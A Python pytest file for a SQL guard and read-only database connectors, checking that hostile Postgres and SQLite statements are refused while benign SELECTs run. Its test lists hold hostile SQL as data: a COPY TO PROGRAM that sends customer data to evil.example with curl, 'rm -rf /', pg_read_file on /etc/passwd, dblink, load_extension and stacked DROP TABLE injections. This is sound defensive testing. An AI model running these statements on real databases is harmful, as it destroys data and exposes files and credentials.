"""The SQL guard refuses hostile statements before they reach a database, and the
connectors' read-only transactions, privileges and timeouts refuse the dangerous ones
again when the guard is bypassed (the connector is called directly)."""

from __future__ import annotations

import psycopg
import pytest

from datasources import connectors
from datasources.sqlguard import query_check
from rivercore.types.datasources import ConnectionConfig
from tests.datasources.fixtures import *  # noqa: F403
from tests.datasources.fixtures import PG_ADMIN, pg_count, sqlite_count

EXPOSED = ["customers", "tickets", "charges"]

HOSTILE_POSTGRES = [
    # writes and DDL
    "DROP TABLE tickets",
    "DROP TABLE IF EXISTS tickets CASCADE",
    "DELETE FROM tickets",
    "DELETE FROM tickets WHERE id = 1",
    "INSERT INTO tickets (subject) VALUES ('x')",
    "INSERT INTO tickets SELECT * FROM tickets",
    "UPDATE tickets SET status = 'closed'",
    "UPDATE customers SET email = NULL WHERE id = 1",
    "MERGE INTO tickets t USING customers c ON t.customer_id = c.id WHEN MATCHED THEN DELETE",
    "TRUNCATE tickets",
    "TRUNCATE TABLE tickets, customers RESTART IDENTITY",
    "CREATE TABLE stolen AS SELECT * FROM customers",
    "CREATE TABLE x (a int)",
    "CREATE VIEW v AS SELECT * FROM customers",
    "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    "CREATE EXTENSION dblink",
    "CREATE ROLE evil SUPERUSER LOGIN",
    "ALTER TABLE tickets ADD COLUMN owned boolean",
    "ALTER ROLE postgres PASSWORD 'x'",
    "ALTER SYSTEM SET statement_timeout = 0",
    "GRANT ALL ON tickets TO PUBLIC",
    "REVOKE SELECT ON tickets FROM PUBLIC",
    # COPY
    "COPY tickets TO '/tmp/tickets.csv'",
    "COPY tickets FROM '/etc/passwd'",
    "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- http://evil.example'",
    "COPY tickets TO PROGRAM 'rm -rf /'",
    "COPY tickets TO STDOUT",
    # transaction and session control
    "SET TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET statement_timeout = 0",
    "SET ROLE postgres",
    "RESET ALL",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "START TRANSACTION READ WRITE",
    # procedural and maintenance commands
    "DO $$ BEGIN DELETE FROM tickets; END $$",
    "CALL cleanup()",
    "LOCK TABLE tickets IN ACCESS EXCLUSIVE MODE",
    "VACUUM FULL tickets",
    "ANALYZE tickets",
    "REINDEX TABLE tickets",
    "CLUSTER tickets",
    "LISTEN channel",
    "NOTIFY channel, 'x'",
    "PREPARE p AS DELETE FROM tickets",
    "EXECUTE p",
    "DEALLOCATE ALL",
    "DISCARD ALL",
    "EXPLAIN ANALYZE DELETE FROM tickets",
    "SHOW ALL",
    # several statements
    "SELECT 1; DROP TABLE tickets",
    "SELECT * FROM tickets; DELETE FROM tickets",
    "SELECT 1; COMMIT; DROP TABLE tickets",
    "SELECT 1; SELECT 2",
    # data-modifying CTEs, SELECT INTO, locking reads
    "WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE tickets SET status = 'x' RETURNING id) SELECT count(*) FROM u",
    "WITH i AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) SELECT * FROM i",
    "SELECT * INTO stolen FROM customers",
    "SELECT * FROM tickets FOR UPDATE",
    "SELECT * FROM tickets FOR SHARE",
    "SELECT * FROM tickets FOR NO KEY UPDATE SKIP LOCKED",
    # dangerous functions
    "SELECT pg_sleep(5)",
    "SELECT pg_catalog.pg_sleep(5)",
    "SELECT pg_sleep_for('5 minutes')",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT pg_stat_file('postgresql.conf')",
    "SELECT pg_terminate_backend(pid) FROM tickets",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT pg_advisory_lock(1)",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    "SELECT dblink_exec('host=evil', 'drop table x')",
    "SELECT set_config('transaction_read_only', 'off', true)",
    "SELECT current_setting('data_directory')",
    "SELECT nextval('audit_seq')",
    "SELECT setval('audit_seq', 1)",
    "SELECT query_to_xml('select * from pg_authid', true, true, '')",
    "SELECT id FROM tickets WHERE pg_sleep(10) IS NULL",
    "SELECT (SELECT pg_read_file('/etc/passwd')) AS f FROM tickets",
    "SELECT id FROM tickets UNION SELECT pg_terminate_backend(1)::int",
    'SELECT "pg_sleep"(5)',
    "SELECT * FROM generate_series(1, 3)",
    "SELECT PG_SLEEP(5)",
    # tables the source does not expose
    "SELECT * FROM pg_catalog.pg_authid",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM secret_salaries",
    "SELECT * FROM other_schema.tickets",
    "SELECT * FROM otherdb.public.tickets",
    "SELECT t.* FROM tickets t JOIN pg_user u ON true",
    "WITH secret AS (SELECT * FROM secret) SELECT * FROM secret",
    "SELECT * FROM tickets WHERE customer_id IN (SELECT id FROM hidden_table)",
    # parameters in unsupported styles, unparseable input
    "SELECT * FROM tickets WHERE id = $1",
    "SELECT * FROM tickets WHERE id = %s",
    "",
    "   ",
    "SELEC * FROM tickets",
    "SELECT * FROM tickets WHERE (",
    "DROP",
]

HOSTILE_SQLITE = [
    "ATTACH DATABASE '/tmp/evil.db' AS evil",
    "DETACH DATABASE main",
    "PRAGMA writable_schema = 1",
    "PRAGMA journal_mode = DELETE",
    "SELECT load_extension('/tmp/evil.so')",
    "REPLACE INTO tickets (id) VALUES (1)",
    "INSERT OR REPLACE INTO tickets (id) VALUES (1)",
    "VACUUM INTO '/tmp/copy.db'",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM tickets WHERE id = ?",
    "SELECT 1; DELETE FROM tickets",
    "CREATE TRIGGER t AFTER INSERT ON tickets BEGIN DELETE FROM customers; END",
]

BENIGN_POSTGRES = [
    "SELECT 1",
    "SELECT * FROM tickets",
    "SELECT id, subject FROM tickets WHERE priority = 'high'",
    "SELECT count(*) FROM tickets WHERE status = 'open' AND priority = 'high' "
    "AND created_at >= now() - interval '24 hours'",
    "SELECT t.id, c.name FROM tickets t JOIN customers c ON c.id = t.customer_id",
    "SELECT c.name, count(t.id) FROM customers c LEFT JOIN tickets t ON t.customer_id = c.id GROUP BY c.name",
    "SELECT status, count(*) AS n FROM tickets GROUP BY status HAVING count(*) > 1 ORDER BY n DESC",
    "SELECT * FROM tickets ORDER BY created_at DESC LIMIT 10 OFFSET 5",
    "SELECT DISTINCT priority FROM tickets",
    "SELECT id FROM tickets UNION SELECT id FROM customers",
    "SELECT id FROM tickets INTERSECT SELECT customer_id FROM charges",
    "SELECT id FROM tickets EXCEPT SELECT customer_id FROM charges",
    "WITH open AS (SELECT * FROM tickets WHERE status = 'open') SELECT count(*) FROM open",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n",
    "SELECT * FROM public.tickets",
    "SELECT * FROM tickets WHERE customer_id IN (SELECT id FROM customers WHERE company = 'Navy')",
    "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM charges ch WHERE ch.customer_id = c.id)",
    "SELECT id, row_number() OVER (PARTITION BY priority ORDER BY created_at) FROM tickets",
    "SELECT CASE WHEN amount > 100 THEN 'big' ELSE 'small' END AS size, amount FROM charges",
    "SELECT coalesce(email, 'none'), lower(name), upper(company) FROM customers",
    "SELECT date_trunc('day', created_at) AS day, count(*) FROM tickets GROUP BY 1 ORDER BY 1",
    "SELECT extract(hour FROM created_at) FROM tickets",
    "SELECT sum(amount), avg(amount), min(amount), max(amount) FROM charges WHERE status = 'paid'",
    "SELECT id::text, amount::float FROM charges",
    "SELECT * FROM tickets WHERE subject ILIKE '%refund%'",
    "SELECT * FROM tickets WHERE subject LIKE 'Can%' AND id BETWEEN 1 AND 10",
    "SELECT count(*) FILTER (WHERE status = 'open') FROM tickets",
    "SELECT * FROM tickets WHERE priority = :priority AND status = :status",
    "SELECT * FROM tickets WHERE created_at > :since",
    "(SELECT id FROM tickets ORDER BY id LIMIT 1)",
    "SELECT id FROM tickets; ",
    "SELECT string_agg(subject, ', ') FROM tickets -- a comment",
    "SELECT 'DROP TABLE tickets' AS harmless_text FROM tickets",
]


@pytest.mark.parametrize("sql", HOSTILE_POSTGRES)
def test_guard_refuses_hostile_postgres(sql):
    verdict = query_check(sql=sql, dialect="postgresql", allowed_tables=EXPOSED)
    assert verdict.allowed is False
    assert verdict.reason
    assert verdict.sql is None


@pytest.mark.parametrize("sql", HOSTILE_SQLITE)
def test_guard_refuses_hostile_sqlite(sql):
    verdict = query_check(sql=sql, dialect="sqlite", allowed_tables=EXPOSED)
    assert verdict.allowed is False
    assert verdict.reason


def test_hostile_list_is_large_enough():
    assert len(HOSTILE_POSTGRES) + len(HOSTILE_SQLITE) >= 60
    assert len(BENIGN_POSTGRES) >= 30


@pytest.mark.parametrize("sql", BENIGN_POSTGRES)
def test_guard_allows_benign_postgres(sql):
    verdict = query_check(sql=sql, dialect="postgresql", allowed_tables=EXPOSED)
    assert verdict.allowed is True, verdict.reason
    assert verdict.sql


def test_benign_queries_run_on_postgres_as_rendered(pg_tables):
    """What the guard returns is what runs: every benign query executes as rendered."""
    connector = connectors.connector_for(
        connectors.ConnectionSpec(
            type="postgresql",
            config=ConnectionConfig(host=pg_tables["host"], port=pg_tables["port"], database=pg_tables["database"]),
            credentials={"user": pg_tables["user"], "password": pg_tables["password"]},
        )
    )
    values = {"priority": "high", "status": "open", "since": "2000-01-01"}
    for sql in BENIGN_POSTGRES:
        verdict = query_check(sql=sql, dialect="postgresql", allowed_tables=EXPOSED)
        result = connector.run_read_query(sql=verdict.sql, parameters=[values[n] for n in verdict.parameter_names])
        assert result.columns, sql


def test_reasons_name_the_problem():
    def reason(sql):
        return query_check(sql=sql, dialect="postgresql", allowed_tables=EXPOSED).reason

    assert "one statement" in reason("SELECT 1; DROP TABLE tickets")
    assert "pg_sleep" in reason("SELECT pg_sleep(1)")
    assert "DELETE" in reason("WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d")
    assert "secret_salaries" in reason("SELECT * FROM secret_salaries")
    assert "could not be parsed" in reason("SELEC * FROM tickets")


def test_guard_renders_named_parameters_for_each_driver():
    pg = query_check(
        sql="SELECT * FROM tickets WHERE a = :x OR b = :y OR c = :x", dialect="postgresql", allowed_tables=EXPOSED
    )
    assert pg.sql == "SELECT * FROM tickets WHERE a = $1 OR b = $2 OR c = $1"
    assert pg.parameter_names == ["x", "y"]
    lite = query_check(sql="SELECT * FROM tickets WHERE a = :x", dialect="sqlite", allowed_tables=EXPOSED)
    assert lite.sql == "SELECT * FROM tickets WHERE a = :x"
    assert lite.tables == ["tickets"]


def test_comments_are_not_passed_to_the_database():
    verdict = query_check(
        sql="SELECT 1 /* /* */ ; DROP TABLE tickets; -- */", dialect="postgresql", allowed_tables=EXPOSED
    )
    assert verdict.allowed is True
    assert verdict.sql == "SELECT 1"


# --- the guard bypassed: the database refuses -------------------------------------------------------


def _pg(pg) -> connectors.PostgresConnector:
    return connectors.connector_for(
        connectors.ConnectionSpec(
            type="postgresql",
            config=ConnectionConfig(host=pg["host"], port=pg["port"], database=pg["database"]),
            credentials={"user": pg["user"], "password": pg["password"]},
        )
    )


BYPASS_REFUSED_POSTGRES = [
    "DROP TABLE tickets",
    "DELETE FROM tickets",
    "INSERT INTO customers (name) VALUES ('intruder')",
    "UPDATE tickets SET status = 'closed'",
    "TRUNCATE tickets",
    "CREATE TABLE stolen AS SELECT * FROM customers",
    "CREATE TABLE x (a int)",
    "ALTER TABLE tickets ADD COLUMN owned boolean",
    "WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d",
    "SELECT * INTO stolen FROM customers",
    "SELECT * FROM tickets FOR UPDATE",
    "SET TRANSACTION READ WRITE",
    "SELECT nextval('audit_seq')",
    "SELECT 1; DROP TABLE tickets",
    "SELECT 1; COMMIT; DELETE FROM tickets",
    "COPY (SELECT 1) TO PROGRAM 'true'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_reload_conf()",
    "SELECT * FROM pg_authid",
]


@pytest.mark.parametrize("sql", BYPASS_REFUSED_POSTGRES)
def test_postgres_refuses_dangerous_sql_without_the_guard(pg_tables, sql):
    assert query_check(sql=sql, dialect="postgresql", allowed_tables=EXPOSED).allowed is False
    with pytest.raises((connectors.QueryRejected, connectors.QueryFailed)) as caught:
        _pg(pg_tables).run_read_query(sql=sql)
    assert "refused" in caught.value.message or "permission denied" in caught.value.message
    assert pg_count(pg_tables, "SELECT count(*) FROM tickets") == 6
    assert pg_count(pg_tables, "SELECT count(*) FROM customers") == 3
    assert pg_count(pg_tables, "SELECT count(*) FROM pg_tables WHERE tablename IN ('stolen', 'x')") == 0


def test_postgres_pg_terminate_backend_is_refused_without_the_guard(pg_tables):
    with psycopg.connect(**PG_ADMIN) as victim:
        pid = victim.info.backend_pid
        with pytest.raises(connectors.QueryRejected):
            _pg(pg_tables).run_read_query(sql=f"SELECT pg_terminate_backend({pid})")
        assert victim.execute("SELECT 1").fetchone() == (1,)


def test_postgres_pg_sleep_is_cut_by_the_statement_timeout(pg_tables):
    with pytest.raises(connectors.QueryTimeout):
        _pg(pg_tables).run_read_query(sql="SELECT pg_sleep(5)", timeout_ms=300)


def test_postgres_session_stays_read_only_when_the_role_could_write(pg_tables):
    """The test role may write (write-back needs it); reads still cannot."""
    connector = _pg(pg_tables)
    assert (
        connector.run_write(table="customers", operation="update", rows=[{"company": "X"}], conditions={"id": 1}) == 1
    )
    with pytest.raises(connectors.QueryRejected):
        connector.run_read_query(sql="UPDATE customers SET company = 'Y' WHERE id = 1")
    assert pg_count(pg_tables, "SELECT count(*) FROM customers WHERE company = 'X'") == 1


BYPASS_REFUSED_SQLITE = [
    "DROP TABLE tickets",
    "DELETE FROM tickets",
    "INSERT INTO customers (name) VALUES ('intruder')",
    "UPDATE tickets SET status = 'closed'",
    "CREATE TABLE x (a int)",
    "ALTER TABLE tickets ADD COLUMN owned boolean",
    "ATTACH DATABASE 'evil.db' AS evil",
    "PRAGMA writable_schema = 1",
    "SELECT load_extension('evil')",
    "SELECT 1; DROP TABLE tickets",
    "REPLACE INTO customers (id, name) VALUES (1, 'x')",
    "VACUUM INTO 'copy.db'",
]


@pytest.mark.parametrize("sql", BYPASS_REFUSED_SQLITE)
def test_sqlite_refuses_dangerous_sql_without_the_guard(sqlite_file, sql):
    connector = connectors.connector_for(
        connectors.ConnectionSpec(type="sqlite", config=ConnectionConfig(path=str(sqlite_file)))
    )
    with pytest.raises(connectors.QueryRejected):
        connector.run_read_query(sql=sql)
    assert sqlite_count(sqlite_file, "SELECT count(*) FROM tickets") == 6
    assert sqlite_count(sqlite_file, "SELECT count(*) FROM customers") == 3
    assert sorted(p.name for p in sqlite_file.parent.iterdir()) == ["support.sqlite3"]
